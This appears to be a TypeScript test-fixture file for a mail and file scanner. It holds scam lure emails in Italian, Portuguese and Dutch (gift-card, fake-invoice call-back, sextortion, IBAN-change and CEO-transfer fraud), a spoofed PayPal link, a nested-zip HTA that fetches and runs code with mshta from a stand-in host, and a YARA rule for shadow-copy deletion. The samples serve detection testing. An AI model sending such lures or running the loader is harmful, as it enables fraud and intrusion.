import { type Entry, files, sampleFiles, word } from '../entry.ts'
import { free, lures, mail } from './lure-letters.ts'
import { letter } from './mime.ts'
import { zip } from './zip.ts'

/** Written apart from the samples of the gallery, in languages that came later. */
export const moreLetters = (): Entry[] => [
  ...lures('lure: Italian, Portuguese, Dutch', mail, [
    [
      'gift cards italian',
      {
        ...free('Direttore', 'boss.privato'),
        subject: 'Un favore',
        text: 'Ciao Kim, sono in riunione e non posso rispondere al telefono. Mi servono cinque carte regalo Apple da 100 €: compra le carte, gratta il retro e inviami le foto dei codici. Resti tra noi.',
      },
    ],
    [
      'call italian',
      {
        ...free('Servizio Clienti', 'fatture.norton'),
        subject: 'Rinnovo Norton 360',
        text: 'Gentile cliente, il rinnovo del suo abbonamento Norton 360 è completato: 389,99 € saranno addebitati oggi. Non riconosce questo acquisto? Telefoni entro 24 ore al numero +39 02 9475 1234 per il rimborso.',
      },
    ],
    [
      'extortion portuguese',
      {
        ...free('Anonimo', 'anon.9912'),
        subject: 'Tenho más notícias',
        text: 'Obtive acesso ao seu computador e gravei um vídeo seu. Tem 48 horas para pagar 1.100 € em Bitcoin: bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh. Caso contrário, envio o vídeo aos seus amigos e familiares.',
      },
    ],
    [
      'bank portuguese',
      {
        ...free('Contabilidade', 'contas.fornecedor'),
        subject: 'Alteração de IBAN',
        text: 'Estimado cliente, informamos a alteração do nosso IBAN. Por favor efetue o pagamento da fatura em atraso para PT50 0002 0123 1234 5678 9015 4.',
      },
    ],
    [
      'transfer dutch',
      {
        ...free('Jan de Vries, directeur', 'directie.devries'),
        subject: 'Dringend',
        text: 'Ben je op kantoor? Er moet vandaag nog een overboeking worden uitgevoerd naar een nieuwe leverancier. Ik zit in een bespreking en ben niet bereikbaar, houd dit vertrouwelijk.',
      },
    ],
    [
      'call dutch',
      {
        ...free('Klantenservice', 'facturen.mcafee'),
        subject: 'Factuur',
        text: 'Bedankt voor uw bestelling. Uw McAfee-abonnement van € 299,99 wordt binnen 24 uur afgeschreven. Niet door u besteld? Bel direct onze klantenservice op +31 20 123 4567 om te annuleren.',
      },
    ],
  ]),
  ...lures('link with the host in the base of the page', mail, [
    [
      'bank',
      {
        from: 'Security <security@portal.example>',
        signed: false,
        subject: 'Confirm your account',
        text: '',
        html: '<html><head><base href="https://confirm.example/x/"></head><body><a href="login">https://www.paypal.com/signin</a></body></html>',
      },
    ],
  ]),
  ...sampleFiles(
    'archive',
    'a script in archives in an archive',
    /^(?:archive|script|page|yara)\./,
    [
      [
        'deep.zip',
        zip({
          'a.zip': zip({
            'b.zip': zip({
              'c.hta':
                '<script>new ActiveXObject("WScript.Shell").Run("mshta http://files.example/x")</script>',
            }),
          }),
        }),
      ],
    ],
  ),
  ...files('text', 'rules', [
    [
      'hunting.yar',
      `rule deletes_copies {\n  strings:\n    $a = "${word('vss', 'admin')} delete shadows" nocase\n    $b = "Set-MpPreference" nocase\n  condition:\n    any of them\n}\n`,
    ],
  ]),
  ...files('picture', 'charts with a script', [
    [
      'flame.svg',
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="init(evt)"><script type="text/ecmascript"><![CDATA[function init(evt){var d=document.getElementById("details");d.firstChild.nodeValue="all"}]]></script><rect width="9" height="9"/></svg>',
    ],
  ]),
  ...files('mail', 'letters: Italian, Portuguese, Dutch', [
    [
      'offerta.eml',
      letter({
        from: 'Vivaio Rossi <info@vivaio.example>',
        subject: 'Offerta 88 e fattura',
        text: 'Buongiorno, in allegato l’offerta e la fattura. Il pagamento si effettua con bonifico entro 30 giorni sul conto indicato. Per domande chiami il +39 02 1234 5678.',
      }),
    ],
    [
      'encomenda.eml',
      letter({
        from: 'Livraria <ola@livraria.example>',
        subject: 'A sua encomenda seguiu hoje',
        text: 'A sua compra de 34,90 € seguiu hoje. Para cancelar ou devolver tem 14 dias; contacte-nos pelo +351 210 123 456.',
      }),
    ],
    [
      'vergadering.eml',
      letter({
        from: 'Sanne <sanne@bedrijf.example>',
        subject: 'Vergadering verplaatst',
        text: 'Hoi, de vergadering is vandaag om drie uur. Kun je koffie kopen? De factuur van de betaling zit in de map, vertrouwelijk graag.',
      }),
    ],
  ]),
]
